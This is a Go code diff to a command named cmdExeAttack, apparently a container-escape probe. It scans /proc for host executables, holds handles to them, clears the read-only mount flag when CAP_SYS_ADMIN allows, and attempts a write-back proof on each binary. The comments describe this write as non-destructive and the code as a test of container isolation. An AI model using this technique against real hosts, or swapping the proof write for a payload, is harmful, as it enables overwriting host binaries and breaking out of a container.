@@ -466,6 +466,10 @@ func cmdNs([]string) error {
 // "done tries=N held=H writable=M". Executables that the container can reach
 // by path itself (its own /bin/busybox, /helper) are left alone.
 //
+// With CAP_SYS_ADMIN it first clears MOUNT_ATTR_RDONLY on the mount behind
+// each held handle ("REMOUNTED-RW <pid> <target>"): a read-only bind mount
+// is no protection if the container may change its flags.
+//
 // The write is a proof, not damage: it writes back the bytes that are already
 // at offset 0, so a vulnerable binary keeps its content (only its mtime
 // changes). A sealed or read-only copy refuses the write.
@@ -480,25 +484,26 @@ func cmdExeAttack(args []string) error {
 	seen := map[string]bool{}       // "pid target" already held
 	seenTarget := map[string]bool{} // targets already reported
 	tries, writable := 0, 0
-	tryWrite := func(path, what string) {
+	tryWrite := func(path, what string) bool {
 		tries++
 		fd, err := unix.Open(path, unix.O_RDWR|unix.O_CLOEXEC, 0)
 		if err != nil {
-			return
+			return false
 		}
 		defer unix.Close(fd)
 		orig := make([]byte, 16)
 		n, err := unix.Pread(fd, orig, 0)
 		if err != nil || n == 0 {
 			fmt.Printf("OPENED-NOT-READ %s: %v\n", what, err)
-			return
+			return false
 		}
 		if _, err := unix.Pwrite(fd, orig[:n], 0); err != nil {
 			fmt.Printf("OPENED-NOT-WRITTEN %s: %v\n", what, err)
-			return
+			return false
 		}
 		writable++
 		fmt.Printf("WROTE %s\n", what)
+		return true
 	}
 	for time.Now().Before(deadline) {
 		ents, _ := os.ReadDir("/proc")
@@ -523,13 +528,23 @@ func cmdExeAttack(args []string) error {
 					seenTarget[target] = true
 					fmt.Printf("SAW %s\n", what)
 				}
+				// A read-only mount of the binary (the runtime's
+				// detached bind mount) is made writable if the
+				// container may: see clearReadonly.
+				if how, err := clearReadonly(fd); err == nil {
+					fmt.Printf("REMOUNTED-RW %s (%s)\n", what, how)
+				}
 			}
 			if seen[what] {
 				tryWrite(exe, what)
 			}
 		}
 		for fd, what := range held {
-			tryWrite(fmt.Sprintf("/proc/self/fd/%d", fd), what+" (via O_PATH)")
+			// Once is proof enough: don't print it on every round.
+			if tryWrite(fmt.Sprintf("/proc/self/fd/%d", fd), what+" (via O_PATH)") {
+				unix.Close(fd)
+				delete(held, fd)
+			}
 		}
 		time.Sleep(time.Millisecond)
 	}
